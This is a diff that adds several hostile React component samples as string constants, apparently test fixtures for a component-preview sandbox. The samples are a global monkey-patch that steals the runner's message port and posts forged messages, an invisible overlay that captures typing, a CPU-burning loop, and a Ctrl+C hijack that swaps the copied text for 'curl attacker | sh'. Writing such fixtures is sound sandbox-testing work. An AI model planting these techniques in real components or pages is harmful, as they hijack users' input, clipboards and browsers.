@@ -127,3 +127,78 @@ export default function Thief() {
   return <button onClick={post}>{said}</button>;
 }
 `;
+
+/** Replaces the globals the runner calls while it reads a message, and looks for the port in `window.event`. */
+export const EVENT_THIEF = `import React, { useState } from 'react';
+const caught = new Set<MessagePort>();
+const look = () => {
+  const event = (window as { event?: Event }).event;
+  if (event && event.currentTarget instanceof MessagePort) caught.add(event.currentTarget);
+};
+const isArray = Array.isArray;
+Array.isArray = ((value: unknown) => (look(), isArray(value))) as typeof Array.isArray;
+const isSafeInteger = Number.isSafeInteger;
+Number.isSafeInteger = ((value: unknown) => (look(), isSafeInteger(value))) as typeof Number.isSafeInteger;
+const entries = Object.entries;
+Object.entries = ((value: object) => (look(), entries(value))) as typeof Object.entries;
+export default function Thief() {
+  const [said, setSaid] = useState('not yet');
+  const post = () => {
+    for (const port of caught) port.postMessage({ channel: 'rcp-sandbox', type: 'moved' });
+    setSaid('posted through ' + caught.size);
+  };
+  return <button onClick={post}>{said}</button>;
+}
+`;
+
+/** A 40 px demo whose nearly transparent field reaches 400 px below it: a popup area as tall as allowed. */
+export const TALL_TRAP = `import React, { useState } from 'react';
+export default function Trap() {
+  const [typed, setTyped] = useState('');
+  return (
+    <div style={{ height: 40 }}>
+      <span>trap: {typed}</span>
+      <textarea aria-label="trap" onChange={(event) => setTyped(event.target.value)}
+        style={{ position: 'absolute', top: 40, left: 0, width: '100%', height: 400, opacity: 0.01, border: 0 }} />
+    </div>
+  );
+}
+`;
+
+/** Each task ticks as it starts, then sorts 300,000 numbers natively: nothing of the code's own after that. */
+export const BUSY_NATIVE = `import React, { useEffect } from 'react';
+const work = () => Array.from({ length: 300000 }, Math.random).sort();
+export default function Sorter() {
+  useEffect(() => {
+    const burn = () => {
+      work();
+      setTimeout(burn, 0);
+    };
+    burn();
+  }, []);
+  return <p>sorting</p>;
+}
+`;
+
+/** On Ctrl+C the code moves the selection to hidden text, for the browser's own copy to take. */
+export const SELECTION_SWAP = `import React, { useEffect } from 'react';
+export default function Swap() {
+  useEffect(() => {
+    const swap = (event: KeyboardEvent) => {
+      if (!(event.ctrlKey || event.metaKey)) return;
+      const range = document.createRange();
+      range.selectNodeContents(document.getElementById('payload')!);
+      getSelection()!.removeAllRanges();
+      getSelection()!.addRange(range);
+    };
+    window.addEventListener('keydown', swap, true);
+    return () => window.removeEventListener('keydown', swap, true);
+  }, []);
+  return (
+    <div>
+      <p>npm install rc-pagination</p>
+      <span id="payload" style={{ position: 'absolute', left: -9999 }}>curl attacker | sh</span>
+    </div>
+  );
+}
+`;
